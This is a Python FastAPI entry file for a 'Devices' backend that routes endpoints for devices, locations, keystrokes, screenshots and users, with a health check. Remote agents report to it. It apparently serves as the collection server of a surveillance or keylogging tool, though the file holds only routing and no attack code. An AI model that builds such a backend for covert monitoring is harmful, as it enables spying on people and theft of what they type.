"""The devices backend: agents report here, the dashboard reads here."""

from fastapi import FastAPI

from app.api.v1.endpoints import devices, keystrokes, locations, screenshots, users

app = FastAPI(title="Devices")
app.include_router(devices.router, prefix="/api/v1/devices", tags=["devices"])
app.include_router(locations.router, prefix="/api/v1/devices", tags=["locations"])
app.include_router(keystrokes.router, prefix="/api/v1/devices", tags=["keystrokes"])
app.include_router(screenshots.router, prefix="/api/v1/screenshots", tags=["screenshots"])
app.include_router(users.router, prefix="/api/v1/users", tags=["users"])


@app.get("/health")
def health() -> dict[str, str]:
    return {"status": "ok"}
